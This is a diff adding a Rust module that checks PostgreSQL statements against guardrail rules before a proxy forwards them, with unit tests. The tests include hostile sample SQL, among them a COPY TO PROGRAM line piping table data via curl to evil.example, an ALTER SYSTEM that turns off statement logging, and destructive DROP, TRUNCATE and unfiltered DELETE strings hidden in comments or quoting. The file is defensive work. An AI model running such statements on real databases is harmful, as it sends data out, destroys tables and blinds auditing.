@@ -1,0 +1,651 @@
+//! Guardrails: statement rules checked on the parsed SQL before a statement is forwarded.
+//!
+//! Every statement of a multi-statement string is checked, nested ones included (`EXPLAIN
+//! ANALYZE DELETE …`, `PREPARE … AS UPDATE …`, data-modifying `WITH`). What the parser cannot
+//! read is handled fail-closed: a strict rule blocks it, a table rule blocks it (it cannot tell
+//! which tables it touches), and the kinds found by scanning its keywords still apply.
+
+use std::collections::HashMap;
+use std::fmt;
+use std::ops::ControlFlow;
+
+use sqlparser::ast::{CopyTarget, ObjectName, ObjectNamePart, ObjectType, Statement};
+use sqlparser::dialect::PostgreSqlDialect;
+use sqlparser::keywords::Keyword;
+use sqlparser::parser::Parser;
+use sqlparser::tokenizer::{Token, Tokenizer};
+
+/// Statement kinds a rule can deny.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Kind {
+    /// `CREATE`, `ALTER`, `DROP`, `COMMENT`, `GRANT`, `REVOKE`, `SECURITY LABEL`.
+    Ddl,
+    Drop,
+    Truncate,
+    AlterSystem,
+    /// `COPY … TO/FROM PROGRAM`: runs a shell command on the database server.
+    CopyProgram,
+    /// `COPY … TO/FROM 'file'` on the database server's file system.
+    CopyFile,
+    Delete,
+    DeleteWithoutWhere,
+    Update,
+    UpdateWithoutWhere,
+    Insert,
+    Merge,
+    /// `DO` blocks: code the guard cannot see into.
+    Do,
+}
+
+impl Kind {
+    pub const ALL: [Kind; 13] = [
+        Kind::Ddl,
+        Kind::Drop,
+        Kind::Truncate,
+        Kind::AlterSystem,
+        Kind::CopyProgram,
+        Kind::CopyFile,
+        Kind::Delete,
+        Kind::DeleteWithoutWhere,
+        Kind::Update,
+        Kind::UpdateWithoutWhere,
+        Kind::Insert,
+        Kind::Merge,
+        Kind::Do,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Kind::Ddl => "ddl",
+            Kind::Drop => "drop",
+            Kind::Truncate => "truncate",
+            Kind::AlterSystem => "alter_system",
+            Kind::CopyProgram => "copy_program",
+            Kind::CopyFile => "copy_file",
+            Kind::Delete => "delete",
+            Kind::DeleteWithoutWhere => "delete_without_where",
+            Kind::Update => "update",
+            Kind::UpdateWithoutWhere => "update_without_where",
+            Kind::Insert => "insert",
+            Kind::Merge => "merge",
+            Kind::Do => "do",
+        }
+    }
+
+    pub fn parse(name: &str) -> Option<Kind> {
+        Kind::ALL.into_iter().find(|k| k.name() == name)
+    }
+
+    fn describe(self) -> &'static str {
+        match self {
+            Kind::Ddl => "a schema change (DDL)",
+            Kind::Drop => "a DROP",
+            Kind::Truncate => "a TRUNCATE",
+            Kind::AlterSystem => "ALTER SYSTEM",
+            Kind::CopyProgram => "COPY with PROGRAM",
+            Kind::CopyFile => "COPY to or from a server file",
+            Kind::Delete => "a DELETE",
+            Kind::DeleteWithoutWhere => "a DELETE without WHERE",
+            Kind::Update => "an UPDATE",
+            Kind::UpdateWithoutWhere => "an UPDATE without WHERE",
+            Kind::Insert => "an INSERT",
+            Kind::Merge => "a MERGE",
+            Kind::Do => "a DO block",
+        }
+    }
+}
+
+/// A table a rule protects: `table` or `schema.table`, each part a name or `*`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TablePattern {
+    schema: Option<String>,
+    table: String,
+}
+
+impl TablePattern {
+    /// Parts are compared as PostgreSQL folds unquoted names: in lower case.
+    pub fn parse(text: &str) -> Option<TablePattern> {
+        let ok = |p: &str| {
+            !p.is_empty()
+                && (p == "*"
+                    || p.chars()
+                        .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+        };
+        let lower = text.to_ascii_lowercase();
+        match lower.split('.').collect::<Vec<_>>()[..] {
+            [t] if ok(t) => Some(TablePattern {
+                schema: None,
+                table: t.into(),
+            }),
+            [s, t] if ok(s) && ok(t) => Some(TablePattern {
+                schema: Some(s.into()),
+                table: t.into(),
+            }),
+            _ => None,
+        }
+    }
+
+    /// An unqualified name in a statement matches whatever schema the rule names: the search
+    /// path decides where it resolves, so the guard assumes the worst.
+    fn matches(&self, schema: Option<&str>, table: &str) -> bool {
+        let part = |want: &str, have: &str| want == "*" || want == have;
+        part(&self.table, table)
+            && match (&self.schema, schema) {
+                (Some(want), Some(have)) => part(want, have),
+                _ => true,
+            }
+    }
+}
+
+impl fmt::Display for TablePattern {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.schema {
+            Some(s) => write!(f, "{s}.{}", self.table),
+            None => f.write_str(&self.table),
+        }
+    }
+}
+
+/// One `[[guardrails]]` rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct GuardRule {
+    pub name: String,
+    /// Resources it applies to; empty: all.
+    pub resources: Vec<String>,
+    /// Roles it applies to; empty: all.
+    pub roles: Vec<String>,
+    pub deny: Vec<Kind>,
+    pub tables: Vec<TablePattern>,
+    /// Block statements the parser cannot read, and `DO` blocks.
+    pub strict: bool,
+}
+
+impl GuardRule {
+    fn applies(&self, resource: &str, role: &str) -> bool {
+        (self.resources.is_empty() || self.resources.iter().any(|r| r == resource))
+            && (self.roles.is_empty() || self.roles.iter().any(|r| r == role))
+    }
+
+    fn judge(&self, s: &Shape) -> Option<String> {
+        if let Some(k) = self.deny.iter().find(|k| s.kinds.contains(k)) {
+            return Some(format!("{} is not allowed", k.describe()));
+        }
+        if s.opaque && self.strict {
+            return Some(format!(
+                "{} cannot be checked and this rule is strict",
+                s.opaque_what()
+            ));
+        }
+        if s.opaque && !self.tables.is_empty() {
+            return Some(format!(
+                "{} cannot be checked against the rule's tables",
+                s.opaque_what()
+            ));
+        }
+        for (schema, table) in &s.tables {
+            if let Some(p) = self
+                .tables
+                .iter()
+                .find(|p| p.matches(schema.as_deref(), table))
+            {
+                return Some(format!("it touches {p}, which this rule protects"));
+            }
+        }
+        None
+    }
+}
+
+/// Why a statement was blocked.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Blocked {
+    pub rule: String,
+    pub why: String,
+}
+
+impl Blocked {
+    pub fn message(&self) -> String {
+        format!(
+            "jitgate guardrail \"{}\" blocked this statement: {}",
+            self.rule, self.why
+        )
+    }
+}
+
+/// The rules that apply to one session, with a cache of verdicts by SQL text (clients repeat
+/// the same statements; parsing is the expensive part).
+pub struct SessionGuard {
+    rules: Vec<GuardRule>,
+    verdicts: HashMap<String, Option<Blocked>>,
+}
+
+/// Verdicts kept per session; past this the cache starts over.
+const CACHE: usize = 512;
+
+impl SessionGuard {
+    /// The rules for a session on `resource` with `role`, or `None` when no rule applies.
+    pub fn for_session(rules: &[GuardRule], resource: &str, role: &str) -> Option<SessionGuard> {
+        let rules: Vec<GuardRule> = rules
+            .iter()
+            .filter(|r| r.applies(resource, role))
+            .cloned()
+            .collect();
+        (!rules.is_empty()).then(|| SessionGuard {
+            rules,
+            verdicts: HashMap::new(),
+        })
+    }
+
+    /// A FunctionCall message runs a function by OID, with no SQL to check: a strict rule
+    /// blocks it.
+    pub fn function_call(&self) -> Option<Blocked> {
+        self.rules.iter().find(|r| r.strict).map(|r| Blocked {
+            rule: r.name.clone(),
+            why: "a function call by OID cannot be checked and this rule is strict".into(),
+        })
+    }
+
+    pub fn check(&mut self, sql: &str) -> Option<Blocked> {
+        if let Some(v) = self.verdicts.get(sql) {
+            return v.clone();
+        }
+        let verdict = judge(&self.rules, sql);
+        if self.verdicts.len() >= CACHE {
+            self.verdicts.clear();
+        }
+        self.verdicts.insert(sql.to_owned(), verdict.clone());
+        verdict
+    }
+}
+
+/// The first rule that blocks `sql`, checking each statement in it.
+pub fn judge(rules: &[GuardRule], sql: &str) -> Option<Blocked> {
+    for shape in shapes(sql) {
+        for rule in rules {
+            if let Some(why) = rule.judge(&shape) {
+                return Some(Blocked {
+                    rule: rule.name.clone(),
+                    why,
+                });
+            }
+        }
+    }
+    None
+}
+
+/// What the guard knows of one top-level statement.
+#[derive(Debug, Default, PartialEq)]
+struct Shape {
+    kinds: Vec<Kind>,
+    /// `(schema, table)`, folded as PostgreSQL folds them.
+    tables: Vec<(Option<String>, String)>,
+    /// The parser could not read it, or it is a `DO` block.
+    opaque: bool,
+    unparsed: bool,
+}
+
+impl Shape {
+    fn add(&mut self, k: Kind) {
+        if !self.kinds.contains(&k) {
+            self.kinds.push(k);
+        }
+    }
+
+    fn opaque_what(&self) -> &'static str {
+        if self.unparsed {
+            "a statement the guard cannot parse"
+        } else {
+            "a DO block"
+        }
+    }
+}
+
+fn shapes(sql: &str) -> Vec<Shape> {
+    match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
+        Ok(statements) => statements.iter().map(parsed_shape).collect(),
+        Err(_) => scanned_shapes(sql),
+    }
+}
+
+fn parsed_shape(top: &Statement) -> Shape {
+    let mut shape = Shape::default();
+    // Every statement, nested ones too.
+    let _ = sqlparser::ast::visit_statements(top, |s| {
+        statement_kinds(s, &mut shape);
+        ControlFlow::<()>::Continue(())
+    });
+    let _ = sqlparser::ast::visit_relations(top, |name| {
+        push_table(&mut shape.tables, name);
+        ControlFlow::<()>::Continue(())
+    });
+    shape
+}
+
+fn statement_kinds(s: &Statement, shape: &mut Shape) {
+    match s {
+        Statement::Drop {
+            object_type, names, ..
+        } => {
+            shape.add(Kind::Drop);
+            shape.add(Kind::Ddl);
+            if matches!(
+                object_type,
+                ObjectType::Table | ObjectType::View | ObjectType::MaterializedView
+            ) {
+                for n in names {
+                    push_table(&mut shape.tables, n);
+                }
+            }
+        }
+        Statement::Truncate(_) => shape.add(Kind::Truncate),
+        Statement::Delete(d) => {
+            shape.add(Kind::Delete);
+            if d.selection.is_none() {
+                shape.add(Kind::DeleteWithoutWhere);
+            }
+        }
+        Statement::Update(u) => {
+            shape.add(Kind::Update);
+            if u.selection.is_none() {
+                shape.add(Kind::UpdateWithoutWhere);
+            }
+        }
+        Statement::Insert(_) => shape.add(Kind::Insert),
+        Statement::Merge(_) => shape.add(Kind::Merge),
+        Statement::Copy { target, .. } => match target {
+            CopyTarget::Program { .. } => shape.add(Kind::CopyProgram),
+            CopyTarget::File { .. } => shape.add(Kind::CopyFile),
+            CopyTarget::Stdin | CopyTarget::Stdout => {}
+        },
+        other => {
+            // The rest is told apart by the statement's leading keywords, as rendered by the
+            // parser: whatever CREATE/ALTER/… variant the parser grows next is still DDL.
+            let text = other.to_string();
+            let mut words = text.split_ascii_whitespace().map(str::to_ascii_uppercase);
+            let first = words.next().unwrap_or_default();
+            let second = words.next().unwrap_or_default();
+            match (first.as_str(), second.as_str()) {
+                ("ALTER", "SYSTEM") => {
+                    shape.add(Kind::AlterSystem);
+                    shape.add(Kind::Ddl);
+                }
+                ("CREATE" | "ALTER" | "COMMENT" | "GRANT" | "REVOKE", _)
+                | ("SECURITY", "LABEL") => shape.add(Kind::Ddl),
+                ("DO", _) => {
+                    shape.add(Kind::Do);
+                    shape.opaque = true;
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+fn push_table(tables: &mut Vec<(Option<String>, String)>, name: &ObjectName) {
+    let parts: Vec<String> = name
+        .0
+        .iter()
+        .map(|p| match p {
+            ObjectNamePart::Identifier(i) if i.quote_style.is_some() => i.value.clone(),
+            ObjectNamePart::Identifier(i) => i.value.to_ascii_lowercase(),
+            // A name computed by a function cannot be known here: match every rule.
+            ObjectNamePart::Function(_) => "*".into(),
+        })
+        .collect();
+    let entry = match parts.as_slice() {
+        [] => return,
+        [t] => (None, t.clone()),
+        [.., s, t] => (Some(s.clone()), t.clone()),
+    };
+    if !tables.contains(&entry) {
+        tables.push(entry);
+    }
+}
+
+/// For SQL the parser rejects: split it into statements on the tokenizer's top-level `;` and
+/// find kinds by keyword anywhere in each, which over-blocks rather than under-blocks. If even
+/// the tokenizer fails, the whole text is one opaque statement.
+fn scanned_shapes(sql: &str) -> Vec<Shape> {
+    let dialect = PostgreSqlDialect {};
+    let Ok(tokens) = Tokenizer::new(&dialect, sql).tokenize() else {
+        return vec![Shape {
+            opaque: true,
+            unparsed: true,
+            ..Shape::default()
+        }];
+    };
+    let mut shapes = Vec::new();
+    let mut words: Vec<Keyword> = Vec::new();
+    let flush = |words: &mut Vec<Keyword>, shapes: &mut Vec<Shape>| {
+        if !words.is_empty() {
+            shapes.push(scanned_shape(words));
+            words.clear();
+        }
+    };
+    let mut depth = 0i32;
+    for t in tokens {
+        match t {
+            Token::LParen => depth += 1,
+            Token::RParen => depth -= 1,
+            Token::SemiColon if depth <= 0 => flush(&mut words, &mut shapes),
+            Token::Word(w) if w.quote_style.is_none() => words.push(w.keyword),
+            Token::Word(_) => words.push(Keyword::NoKeyword),
+            Token::Whitespace(_) => {}
+            _ => words.push(Keyword::NoKeyword),
+        }
+    }
+    flush(&mut words, &mut shapes);
+    if shapes.is_empty() {
+        // Only comments or whitespace: nothing runs, but say so rather than guess.
+        shapes.push(Shape {
+            opaque: true,
+            unparsed: true,
+            ..Shape::default()
+        });
+    }
+    shapes
+}
+
+fn scanned_shape(words: &[Keyword]) -> Shape {
+    let mut shape = Shape {
+        opaque: true,
+        unparsed: true,
+        ..Shape::default()
+    };
+    let has = |k: Keyword| words.contains(&k);
+    let has_where = has(Keyword::WHERE);
+    for (i, w) in words.iter().enumerate() {
+        match w {
+            Keyword::DROP => {
+                shape.add(Kind::Drop);
+                shape.add(Kind::Ddl);
+            }
+            Keyword::TRUNCATE => shape.add(Kind::Truncate),
+            Keyword::CREATE | Keyword::COMMENT | Keyword::GRANT | Keyword::REVOKE => {
+                shape.add(Kind::Ddl)
+            }
+            Keyword::ALTER => {
+                shape.add(Kind::Ddl);
+                if words.get(i + 1) == Some(&Keyword::SYSTEM) {
+                    shape.add(Kind::AlterSystem);
+                }
+            }
+            Keyword::DELETE => {
+                shape.add(Kind::Delete);
+                if !has_where {
+                    shape.add(Kind::DeleteWithoutWhere);
+                }
+            }
+            Keyword::UPDATE => {
+                shape.add(Kind::Update);
+                if !has_where {
+                    shape.add(Kind::UpdateWithoutWhere);
+                }
+            }
+            Keyword::INSERT => shape.add(Kind::Insert),
+            Keyword::MERGE => shape.add(Kind::Merge),
+            Keyword::PROGRAM if has(Keyword::COPY) => shape.add(Kind::CopyProgram),
+            _ => {}
+        }
+    }
+    if words.first() == Some(&Keyword::DO) {
+        shape.add(Kind::Do);
+    }
+    if has(Keyword::COPY) && !has(Keyword::PROGRAM) && !has(Keyword::STDIN) && !has(Keyword::STDOUT)
+    {
+        shape.add(Kind::CopyFile);
+    }
+    shape
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(deny: &[&str], tables: &[&str], strict: bool) -> GuardRule {
+        GuardRule {
+            name: "r".into(),
+            resources: vec![],
+            roles: vec![],
+            deny: deny.iter().map(|k| Kind::parse(k).expect(k)).collect(),
+            tables: tables
+                .iter()
+                .map(|t| TablePattern::parse(t).expect(t))
+                .collect(),
+            strict,
+        }
+    }
+
+    fn blocked(r: &GuardRule, sql: &str) -> bool {
+        judge(std::slice::from_ref(r), sql).is_some()
+    }
+
+    #[test]
+    fn kinds_are_found_in_every_statement_and_nested_ones() {
+        let r = rule(
+            &[
+                "drop",
+                "truncate",
+                "delete_without_where",
+                "update_without_where",
+                "copy_program",
+                "alter_system",
+            ],
+            &[],
+            false,
+        );
+        for sql in [
+            "DROP TABLE orders",
+            "select 1; drop table orders",
+            "SELECT 1; /* harmless */ TRUNCATE orders",
+            "-- just a comment\nDELETE FROM orders",
+            "DELETE FROM orders -- WHERE id = 1",
+            "UPDATE orders SET total = 0",
+            "EXPLAIN ANALYZE DELETE FROM orders",
+            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
+            "PREPARE p AS UPDATE orders SET total = 0",
+            "COPY orders TO PROGRAM 'curl -d @- evil.example'",
+            "ALTER SYSTEM SET log_statement = 'none'",
+            "/* /* nested */ SELECT 1; */ DROP TABLE orders",
+            "SELECT $$; $$; DROP TABLE orders",
+        ] {
+            assert!(blocked(&r, sql), "not blocked: {sql}");
+        }
+        for sql in [
+            "SELECT * FROM orders",
+            "DELETE FROM orders WHERE id = 1",
+            "UPDATE orders SET total = 0 WHERE id = 1",
+            "SELECT 'DROP TABLE orders'",
+            "SELECT $$DROP TABLE orders$$",
+            "SELECT 1 -- ; DROP TABLE orders",
+            "SELECT \"drop\" FROM t",
+            "COPY orders TO STDOUT",
+            "BEGIN; INSERT INTO orders VALUES (1); COMMIT",
+        ] {
+            assert!(!blocked(&r, sql), "blocked: {sql}");
+        }
+    }
+
+    #[test]
+    fn ddl_covers_create_alter_grant_and_comment() {
+        let r = rule(&["ddl"], &[], false);
+        for sql in [
+            "CREATE TABLE t (id int)",
+            "ALTER TABLE orders ADD COLUMN x int",
+            "GRANT SELECT ON orders TO public",
+            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
+            "COMMENT ON TABLE orders IS 'x'",
+            "DROP INDEX i",
+        ] {
+            assert!(blocked(&r, sql), "not blocked: {sql}");
+        }
+        assert!(!blocked(&r, "SELECT 1"));
+    }
+
+    #[test]
+    fn tables_match_through_aliases_joins_subqueries_and_quoting() {
+        let r = rule(&[], &["public.payments"], false);
+        for sql in [
+            "SELECT * FROM payments",
+            "SELECT p.card FROM public.payments AS p",
+            "SELECT * FROM orders o JOIN payments p ON p.order_id = o.id",
+            "SELECT * FROM orders WHERE id IN (SELECT order_id FROM PAYMENTS)",
+            "SELECT * FROM \"public\".\"payments\"",
+            "WITH x AS (SELECT * FROM payments) SELECT * FROM x",
+            "DROP TABLE payments",
+            "TRUNCATE payments",
+            "DO $$ BEGIN EXECUTE 'DELETE FROM payments'; END $$",
+        ] {
+            assert!(blocked(&r, sql), "not blocked: {sql}");
+        }
+        for sql in [
+            "SELECT * FROM orders",
+            "SELECT * FROM audit.payments",
+            "SELECT * FROM \"Payments\"",
+            "SELECT 'payments'",
+        ] {
+            assert!(!blocked(&r, sql), "blocked: {sql}");
+        }
+    }
+
+    #[test]
+    fn strict_rules_block_what_cannot_be_parsed() {
+        let lax = rule(&["drop"], &[], false);
+        let strict = rule(&["drop"], &[], true);
+        let odd = "SELECT FROM WHERE nonsense (";
+        assert!(!blocked(&lax, odd));
+        assert!(blocked(&strict, odd));
+        let block = "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$";
+        assert!(!blocked(&lax, block), "a lax rule cannot see into DO");
+        assert!(blocked(&strict, block));
+        assert!(blocked(&strict, "SELECT 'unterminated"));
+    }
+
+    #[test]
+    fn rules_apply_by_resource_and_role_and_verdicts_are_cached() {
+        let mut r = rule(&["drop"], &[], false);
+        r.resources = vec!["orders-db".into()];
+        r.roles = vec!["read".into()];
+        let rules = [r];
+        assert!(SessionGuard::for_session(&rules, "orders-db", "admin").is_none());
+        assert!(SessionGuard::for_session(&rules, "other-db", "read").is_none());
+        let mut g = SessionGuard::for_session(&rules, "orders-db", "read").expect("applies");
+        let b = g.check("DROP TABLE x").expect("blocked");
+        assert_eq!(b.rule, "r");
+        assert!(
+            b.message().contains("a DROP is not allowed"),
+            "{}",
+            b.message()
+        );
+        assert_eq!(g.check("DROP TABLE x"), Some(b));
+        assert_eq!(g.check("SELECT 1"), None);
+    }
+
+    #[test]
+    fn table_patterns_parse_strictly() {
+        assert!(TablePattern::parse("public.payments").is_some());
+        assert!(TablePattern::parse("*.secrets").is_some());
+        assert!(TablePattern::parse("a.b.c").is_none());
+        assert!(TablePattern::parse("pay;ments").is_none());
+        assert!(TablePattern::parse("").is_none());
+    }
+}
